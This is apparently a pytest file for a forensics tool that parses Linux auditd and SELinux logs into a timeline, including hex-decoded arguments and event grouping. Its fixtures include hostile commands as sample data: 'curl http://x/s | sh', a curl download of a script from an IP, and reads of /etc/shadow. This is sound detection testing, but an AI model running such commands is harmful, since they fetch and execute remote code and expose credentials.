"""Linux audit logs: plaso's enriched audit.log and selinux.log, crowdsec's auditd folders, grouping rules."""

from __future__ import annotations

import json
import re
from decimal import Decimal
from pathlib import Path

import pyarrow as pa

from collectors import AuditdCollector, collector_for
from collectors.auditd import FLUSH_LINES, parse_record
from collectors.base import Artifact
from timeline.schema import SCHEMA, iso_ns


def collect(path: Path, batch_rows: int = 100_000, **kw):
    c = AuditdCollector()
    art = Artifact("a" * 16, path.name, str(path), "0" * 64, path.stat().st_size, **kw)
    tables = list(c.collect(art, batch_rows=batch_rows)) + list(c.finish())
    table = pa.concat_tables(tables) if tables else SCHEMA.empty_table()
    assert table.schema.equals(SCHEMA, check_metadata=False)
    rows = table.to_pylist()
    for r in rows:
        r["a"] = json.loads(r["attrs"])
        r["t"] = iso_ns(r["timestamp"].value)
    return rows, c.report(art)


def test_audit_enriched_plaso(evidence: Path):
    rows, rep = collect(evidence / "plaso/test_data/audit_enriched.log")
    assert rep.errors == [] and rep.stats == {"rows": 12, "records": 29}
    assert {r["tz_source"] for r in rows} == {"source_utc"} and {r["source"] for r in rows} == {"AUDIT"}
    assert [(r["t"], r["artifact"], r["user"], r["target_user"], r["src_ip"], r["record_ref"], r["a"].get("outcome"))
            for r in rows] == [
        ("2026-07-07T08:56:13.076000000Z", "auditd:DEL_USER", "root", "specimenuser", None, "line=1 serial=399", "failure"),
        ("2026-07-07T08:56:13.160000000Z", "auditd:ADD_USER", "root", "specimenuser", None, "line=2 serial=408", "success"),
        ("2026-07-07T08:56:13.687000000Z", "auditd:USER_CMD", "root", None, None, "line=3 serial=423", "success"),
        ("2026-07-07T08:56:53.119000000Z", "auditd:USER_AUTH", "root", None, "172.23.112.1", "line=4 serial=441", "failure"),
        ("2026-07-07T08:56:53.152000000Z", "auditd:USER_ACCT", "root", None, "172.23.112.1", "line=5 serial=444", "success"),
        ("2026-07-07T08:56:53.166000000Z", "auditd:CRED_ACQ", "root", None, "172.23.112.1", "line=6 serial=446", "success"),
        ("2026-07-07T08:56:53.166000000Z", "auditd:LOGIN", "root", None, None, "line=7 serial=447", "success"),
        ("2026-07-07T08:56:53.169000000Z", "auditd:USER_ROLE_CHANGE", "root", None, "172.23.112.1", "line=10 serial=448", "success"),
        ("2026-07-07T08:56:53.207000000Z", "auditd:USER_START", "root", None, "172.23.112.1", "line=11 serial=449", "success"),
        ("2026-07-07T08:57:41.335000000Z", "auditd:EXECVE", "root", None, None, "line=12 serial=485", "success"),
        ("2026-07-07T08:57:41.350000000Z", "auditd:EXECVE", "root", None, None, "line=18 serial=487", "success"),
        ("2026-07-07T09:23:37.830000000Z", "auditd:EXECVE", "root", None, None, "line=24 serial=735", "success"),
    ]
    # the three execve events: arguments (hex-encoded ones decoded), process, path, cwd, key
    assert [(r["process"], r["command_line"], r["path"], r["a"]["cwd"], r["a"]["key"]) for r in rows[-3:]] == [
        ("/usr/bin/id", "id", "/usr/bin/id", "/root", "specimen_exec"),
        ("/usr/bin/bash", "/bin/sh -c 'grep -c . /etc/hostname'", "/bin/sh", "/root", "specimen_exec"),
        ("/usr/bin/cat", "/usr/bin/cat '/tmp/my report.txt'", "/usr/bin/cat", "/root", "spec2"),
    ]
    ex = rows[-2]["a"]
    assert ex["args"] == ["/bin/sh", "-c", "grep -c . /etc/hostname"]
    assert ex["proctitle"] == "/bin/sh -c grep -c . /etc/hostname"
    assert ex["types"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"] and ex["lines"] == [18, 19, 20, 21, 22, 23]
    assert (ex["auid"], ex["uid"], ex["pid"], ex["ppid"], ex["syscall"], ex["syscall_name"], ex["exe"], ex["comm"]) == (
        "0", "0", "2221", "2176", "59", "execve", "/usr/bin/bash", "sh")
    assert ex["enriched"]["AUID"] == "root" and ex["enriched"]["ARCH"] == "x86_64"
    assert ex["paths"] == ["/bin/sh", "/lib64/ld-linux-x86-64.so.2"]
    assert ex["records"][1] == {"type": "EXECVE", "argc": "3", "a0": "/bin/sh", "a1": "-c", "a2": "grep -c . /etc/hostname"}
    assert rows[-2]["message"] == "EXECVE user=root exe=/usr/bin/bash (success) key=specimen_exec: /bin/sh -c 'grep -c . /etc/hostname'"
    login = rows[6]
    assert login["command_line"] == "sshd-session: root [priv]" and login["a"]["types"] == ["LOGIN", "SYSCALL", "PROCTITLE"]
    assert login["a"]["records"][0]["old-auid"] == "4294967295" and login["a"]["records"][0]["enriched"]["OLD-AUID"] == "unset"
    auth = rows[3]
    assert (auth["a"]["op"], auth["a"]["acct"], auth["a"]["terminal"], auth["a"]["auid"], auth["process"]) == (
        "pubkey", "root", "ssh", "4294967295", "/usr/libexec/openssh/sshd-session")
    assert auth["message"] == "USER_AUTH op=pubkey user=root from 172.23.112.1 exe=/usr/libexec/openssh/sshd-session (failure)"
    assert rows[2]["command_line"] == "true" and rows[2]["a"]["records"][0]["cwd"] == "/root"


def test_selinux_plaso(evidence: Path):
    rows, rep = collect(evidence / "plaso/test_data/selinux.log")
    assert [(e.record_ref, e.kind) for e in rep.errors] == [
        ("line=2", "unparsed_line"), ("line=4", "unparsed_line"), ("line=6", "unparsed_line"), ("line=7", "unparsed_line")]
    assert [e.message.split(":")[0] for e in rep.errors] == [
        "bad audit stamp audit(1337845201) (expected SECONDS.MILLIS", "bad audit stamp audit() (expected SECONDS.MILLIS",
        "empty type=", "no type= before msg=audit(...)"]
    assert [(r["t"], r["artifact"], r["user"], r["record_ref"]) for r in rows] == [
        ("2012-05-24T07:40:01.174000000Z", "auditd:LOGIN", "0", "line=1 serial=94983"),
        ("2012-05-24T07:40:01.000000000Z", "auditd:SHORTDATE", None, "line=3 serial=0"),
        ("2012-05-24T07:40:22.174000000Z", "auditd:NOMSG", None, "line=8 serial=94984"),
        ("2012-05-24T07:47:46.174000000Z", "auditd:UNDER_SCORE", "54321", "line=9 serial=94984"),
        ("2014-01-08T06:53:40.991000000Z", "auditd:UNKNOWN[1323]", None, "line=10 serial=2159"),
        ("2009-05-26T10:11:41.744000000Z", "auditd:AVC", "0", "line=11 serial=101"),
    ]
    assert rows[0]["a"]["records"][0]["new-ses"] == "1165"  # "old ses=… new ses=…" keep both
    avc = rows[-1]
    assert (avc["process"], avc["path"], avc["a"]["avc"], avc["a"]["permissions"], avc["a"]["tclass"]) == (
        "/bin/ls", "/usr/lib/locale/locale-archive", "denied", ["getattr"], "file")
    assert avc["a"]["types"] == ["AVC", "SYSCALL"]
    assert avc["message"] == "AVC denied { getattr } user=0 exe=/bin/ls path=/usr/lib/locale/locale-archive"


_ASSERT = re.compile(r'^results\["s01-parse"\]\["crowdsecurity/auditd-logs"\]\[(\d+)\]\.'
                     r'(Success|Evt\.(?:Parsed|Meta)\["([^"]+)"\]|Evt\.Unmarshaled\["auditd"\]\["([^"]+)"\]) == (.*)$')


def test_crowdsec_auditd_expectations(evidence: Path):
    d = evidence / "crowdsec-hub/.tests/auditd-logs"
    log_file = d / "auditd-logs.log"
    assert collector_for(str(log_file)) is AuditdCollector
    rows, rep = collect(log_file)
    assert rep.errors == []
    by_line = {int(r["record_ref"].split()[0][5:]): r for r in rows}
    text = log_file.read_text().splitlines()
    entries: dict[int, dict] = {}
    for line in (d / "parser.assert").read_text().splitlines():
        m = _ASSERT.match(line)
        if m:
            idx, what, field, ufield, value = m.groups()
            e = entries.setdefault(int(idx), {"fields": {}, "raw": {}})
            value = json.loads(value) if value.startswith('"') else value == "true"
            if what == "Success":
                e["ok"] = value
            elif ufield:
                e["raw"][ufield] = value
            else:
                e["fields"][field] = value
    assert len(entries) == 4 and all(e["ok"] for e in entries.values())
    for i, e in entries.items():
        f = e["fields"]
        n = text.index(f["message"]) + 1
        r = by_line[n]
        rec = r["a"]["records"][0]
        assert r["timestamp"].value == int(Decimal(f["timestamp"]) * 10**9)
        assert r["a"]["serial"] == int(f["event_inc_id"]) == int(f["auditd_eventid"])
        assert (r["process"], r["a"]["uid"], r["a"]["auid"], r["a"]["ppid"], r["a"]["tty"]) == (
            f["exe"], f["uid"], f["auid"], f["ppid"], f["tty"])
        for k, v in e["raw"].items():  # every field crowdsec unmarshaled, as we keep it
            if k == "msg":
                assert v == f"audit({r['a']['audit_time']}:{r['a']['serial']}):"
            else:
                assert rec[k] == v, (n, k)
    assert len(rows) == 4


def test_crowdsec_auditd_scenarios(evidence: Path):
    root = evidence / "crowdsec-hub/.tests"
    got = {}
    for d in sorted(root.glob("auditd-*")):
        rows, rep = collect(next(d.glob("*.log")))
        assert rep.errors == []
        got[d.name] = [(r["artifact"], r["user"], r["process"], r["command_line"]) for r in rows]
    assert {k: len(v) for k, v in got.items()} == {"auditd-base64-exec": 4, "auditd-logs": 4,
                                                   "auditd-postexploit-exec-from-net": 3, "auditd-postexploit-rm": 10,
                                                   "auditd-suid-crash": 3}
    # enriched fields glued to the raw ones (their \x1d separator lost in this copy) are still told apart
    assert got["auditd-suid-crash"] == [
        ("auditd:EXECVE", "bui", "/usr/bin/bash", "-bash"),
        ("auditd:EXECVE", "bui", "/usr/bin/su", "/usr/bin/su --help"),
        ("auditd:ANOM_ABEND", "bui", "/usr/bin/su", None),
    ]
    assert got["auditd-postexploit-exec-from-net"][2] == ("auditd:SYSCALL", "1000", "/tmp/blitz64", None)


def test_parse_record_fields():
    node, rtype, stamp, ns, serial, f = parse_record(
        'node=web01 type=EXECVE msg=audit(1669168800.123:77): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F782F73207C207368')
    assert (node, rtype, stamp, ns, serial) == ("web01", "EXECVE", "1669168800.123:77", 1669168800_123_000_000, 77)
    assert f == {"argc": "3", "a0": "bash", "a1": "-c", "a2": "curl http://x/s | sh"}
    # the same hex-looking value in a SYSCALL record is a pointer, not text
    assert parse_record("type=SYSCALL msg=audit(1.000:1): a0=7ffd9f580560 comm=\"id\"")[5] == {"a0": "7ffd9f580560", "comm": "id"}
    *_, f = parse_record("type=USER_CMD msg=audit(1.5:2): pid=1 uid=1000 auid=1000 msg='cwd=\"/home/u\" cmd=636174202F6574632F736861646F77 terminal=pts/0 res=success'")
    assert (f["cmd"], f["cwd"], f["res"], f["uid"]) == ("cat /etc/shadow", "/home/u", "success", "1000")


def test_grouping_interleaved_and_window(tmp_path: Path):
    log = tmp_path / "audit.log"
    a = "msg=audit(1669168800.100:10)"
    b = "msg=audit(1669168800.200:11)"
    late = "msg=audit(1669168801.000:12)"
    lines = [
        f'type=SYSCALL {a}: arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=100 auid=1000 uid=0 comm="curl" exe="/usr/bin/curl" key="net"',
        f'type=SYSCALL {b}: arch=c000003e syscall=59 success=no exit=-13 ppid=1 pid=101 auid=1000 uid=1000 comm="cat" exe="/usr/bin/cat"',
        f'type=EXECVE {a}: argc=2 a0="curl" a1="http://198.51.100.7/x.sh"',
        f'type=EXECVE {b}: argc=2 a0="cat" a1="/etc/shadow"',
        f'type=PATH {b}: item=0 name="/etc/shadow" nametype=NORMAL',
        f'type=EOE {b}:',
        f'type=CWD {a}: cwd="/tmp"',
        "garbage that is no audit record",
        f'type=SYSCALL {late}: arch=c000003e syscall=2 success=yes exit=3 pid=102 auid=4294967295 uid=0 comm="x" exe="/x"',
    ]
    lines += [f"type=USER_END msg=audit(1669168802.{i % 1000:03d}:{1000 + i}): pid=1 uid=0 auid=0 ses=1 "
              f"msg='op=PAM:session_close acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'"
              for i in range(FLUSH_LINES + 5)]
    lines.append(f'type=PATH {late}: item=0 name="/etc/passwd" nametype=NORMAL')  # > FLUSH_LINES lines after its event
    log.write_text("\n".join(lines) + "\n")
    rows, rep = collect(log, batch_rows=300)
    assert [(e.record_ref, e.kind) for e in rep.errors] == [("line=8", "unparsed_line")]
    assert len(rows) == 3 + FLUSH_LINES + 5 + 1
    first = rows[:3]
    assert [(r["record_ref"], r["artifact"], r["command_line"], r["user"], r["a"]["outcome"]) for r in first] == [
        ("line=1 serial=10", "auditd:EXECVE", "curl http://198.51.100.7/x.sh", "1000", "success"),
        ("line=2 serial=11", "auditd:EXECVE", "cat /etc/shadow", "1000", "failure"),
        ("line=9 serial=12", "auditd:SYSCALL", None, "0", "success"),
    ]
    assert first[0]["a"]["lines"] == [1, 3, 7] and first[0]["a"]["cwd"] == "/tmp" and first[1]["path"] == "/etc/shadow"
    assert first[2]["a"]["lines"] == [9] and first[2]["path"] is None
    # the PATH record that came too late is its own row, with the same stamp, and both are kept
    last = rows[-1]
    assert (last["record_ref"], last["t"], last["path"], last["artifact"]) == (
        f"line={len(lines)} serial=12", "2022-11-23T02:00:01.000000000Z", "/etc/passwd", "auditd:PATH")
    assert last["event_hash"] != first[2]["event_hash"]
    assert rows[3]["artifact"] == "auditd:USER_END" and rows[3]["user"] == "root"
    assert len({r["event_hash"] for r in rows}) == len(rows)


def test_audit_log_in_case(tmp_path: Path, evidence: Path):
    import shutil

    import forensics

    ev = tmp_path / "var" / "log" / "audit"
    ev.mkdir(parents=True)
    shutil.copy(evidence / "plaso/test_data/audit_enriched.log", ev / "audit.log")
    shutil.copy(evidence / "plaso/test_data/selinux.log", ev / "audit.log.1")
    case = forensics.Case(tmp_path / "case", create=True)
    rep = case.collect([tmp_path / "var"], workers=1)
    assert rep.rows_written == 18 and rep.errors == 4
    assert case.info()["artifacts"]["auditd:EXECVE"] == 3
    df = forensics.open(tmp_path / "case").to_pandas()
    ex = df[df["artifact"] == "auditd:EXECVE"].sort_values("timestamp")
    assert list(ex["command_line"]) == ["id", "/bin/sh -c 'grep -c . /etc/hostname'", "/usr/bin/cat '/tmp/my report.txt'"]
    from forensics.hunt import process_executions

    assert len(process_executions(df)) == 3
